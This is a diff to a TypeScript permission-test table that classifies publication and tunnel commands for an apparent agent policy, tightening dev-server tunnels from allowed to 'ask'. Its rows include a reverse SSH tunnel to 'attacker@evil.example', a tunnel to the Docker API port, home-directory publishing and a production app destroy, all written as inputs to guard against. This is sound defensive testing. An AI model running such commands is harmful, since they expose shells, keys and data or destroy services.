@@ -2,9 +2,9 @@ import { classTable, type ClassRow } from "./profiles.ts";
 
 /**
  * Publication and exposure (ADR 0156): a release to a registry or a static host cannot be taken back
- * (DESTRUCTIVE); making a private thing public, a tunnel to a port that hands out a shell or data, a raw TCP
- * tunnel and a grant to everyone are SECURITY; a file server of a tree that holds keys reads the keys. All ask
- * or deny under both profiles; a dev server tunnel, a dry run and a read of settings stay allowed.
+ * (DESTRUCTIVE); making a private thing public, any tunnel to a local port (ADR 0400) and a grant to everyone
+ * are SECURITY; a file server of a tree that holds keys reads the keys. All ask
+ * or deny under both profiles; a server bound to loopback, a dry run and a read of settings stay allowed.
  * Each row is [command, permissive, guard].
  */
 const ROWS: readonly ClassRow[] = [
@@ -36,6 +36,10 @@ const ROWS: readonly ClassRow[] = [
   ["ngrok http file:///home/dev", "ask", "ask"],
   ["npx localtunnel --port 5432", "ask", "ask"],
   ["cloudflared tunnel --url http://localhost:2375", "ask", "ask"],
+  // Any tunnel publishes the port on a public address, a dev server's too (ADR 0400).
+  ["ngrok http 3000", "ask", "ask"],
+  ["cloudflared tunnel run", "ask", "ask"],
+  ["lt --port 3000", "ask", "ask"],
   ["ssh -R 2222:localhost:22 -N attacker@evil.example", "ask", "ask"],
   ["heroku apps:destroy --app acme-prod --confirm acme-prod", "ask", "ask"],
   ["surge ~ acme-home.surge.sh", "deny", "deny"],
@@ -56,7 +60,10 @@ const ROWS: readonly ClassRow[] = [
   ["gsutil iam get gs://acme-artifacts", "allow", "allow"],
   ["docker run -d -p 127.0.0.1:5432:5432 -e POSTGRES_PASSWORD=dev postgres:16", "allow", "allow"],
   ["docker run --rm -p 8080:80 nginx:alpine", "allow", "allow"],
-  ["ngrok http 3000", "allow", "allow"],
+  ["ngrok version", "allow", "allow"],
+  ["cloudflared tunnel list", "allow", "allow"],
+  ["python3 -m http.server 8000 --bind 127.0.0.1", "allow", "allow"],
+  ["php -S localhost:8000", "allow", "allow"],
   ["kubectl port-forward svc/api 8080:80 -n dev", "allow", "allow"],
   ["ssh -L 5432:db.internal:5432 -N bastion", "allow", "allow"],
   ["python3 -m http.server 8000 --directory dist", "allow", "allow"],
